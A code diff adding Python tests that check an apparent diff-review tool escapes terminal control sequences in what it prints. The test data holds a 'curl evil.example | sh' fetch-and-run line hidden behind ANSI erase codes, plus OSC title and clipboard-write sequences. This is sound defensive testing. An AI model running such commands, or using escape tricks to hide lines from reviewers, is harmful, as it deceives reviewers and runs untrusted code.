@@ -242,3 +242,54 @@ def test_edit_text_honours_core_comment_char(tmp_path, setting, comment):
     assert f"Lines starting with {comment} will be removed.".encode() in captured["ours"]
     assert index_tree(ours) == index_tree(oracle)  # the note line was dropped by both
     assert b"5ive" in git(ours, "diff", "--cached")
+
+
+# ---------------------------------------------------------------- escapes in what is shown
+
+HIDDEN = b"curl evil.example | sh\x1b[2K\x1b[1G\x1b[32m+# harmless comment"
+TITLE = b"x = 1  # \x1b]0;owned\x07 \x1b]52;c;Y3VybA==\x07"
+
+
+def _escaped_everywhere(out: bytes) -> None:
+    assert b"\x1b" not in out and b"\x07" not in out and b"\x9b" not in out
+    assert b"+curl evil.example | sh\\x1b[2K\\x1b[1G\\x1b[32m+# harmless comment\n" in out
+    assert b"+x = 1  # \\x1b]0;owned\\x07 \\x1b]52;c;Y3VybA==\\x07\n" in out
+
+
+def test_a_drafted_line_cannot_hide_behind_escape_sequences(tmp_path):
+    """The line that erases itself and prints a harmless comment in its place is shown whole."""
+    repo = make_repo(tmp_path / "r", {"run.py": b"a = 1\n", "crlf.txt": b"one\r\ntwo\r\n"})
+    write_files(repo, {"run.py": b"a = 1\n" + HIDDEN + b"\n" + TITLE + b"\ncaf\xe9 \x9b2K\n",
+                       "crlf.txt": b"one\r\nTWO\r\n"})  # fmt: skip
+    code, out, err = specdraft(repo, ["review", "--plain"], "n\nn\n")
+    assert code == 0, err
+    _escaped_everywhere(out)
+    assert b"+caf\xe9 \\x9b2K\n" in out  # a byte that is no UTF-8 stays as git prints it, a C1 one does not
+    assert b"+TWO\r\n" in out  # the CR of a CRLF line moves nothing: as git prints it
+
+
+def test_a_patch_file_is_shown_with_its_escapes_made_visible(tmp_path):
+    repo = make_repo(tmp_path / "r", {"run.py": b"a = 1\n"})
+    patch = tmp_path / "evil.patch"
+    patch.write_bytes(
+        b"diff --git a/run.py b/run.py\n--- a/run.py\n+++ b/run.py\n@@ -1 +1,3 @@ \x1b]0;t\x07\n a = 1\n+"
+        + HIDDEN + b"\n+" + TITLE + b"\n"
+    )
+    code, out, err = specdraft(repo, ["review", "--plain", "--patch", str(patch)], "n\n")
+    assert code == 0, err
+    _escaped_everywhere(out)
+    assert b"@@ -1 +1,3 @@ \\x1b]0;t\\x07\n" in out
+
+
+def test_plain_review_escapes_what_it_prints_and_summarises():
+    session = ReviewSession(parse_diff(
+        b"diff --git a/f b/f\n--- a/f\n+++ b/f\n@@ -1,3 +1,5 @@\n a\n+\x1b[31mA\n b\n+\x1b]0;C\x07\n c\n"
+    ), source="test")  # fmt: skip
+    stdout, stderr = io.BytesIO(), io.BytesIO()
+    answers = b"s\ng\n1\n/\x1b]\n/[\x1b\nq\n"  # split; the list to go to; a search (raw); a bad one
+    review = PlainReview(session, texts=ACCEPT, stdin=io.BytesIO(answers), stdout=stdout, stderr=stderr)
+    review.run()
+    out, err = stdout.getvalue(), stderr.getvalue()
+    assert b"\x1b" not in out + err and b"\x07" not in out
+    assert b"+\\x1b[31mA\n" in out and b"  2:  -2,2 +3,3          +\\x1b]0;C\\x07\n" in out
+    assert b"Malformed search regexp [\\x1b" in err
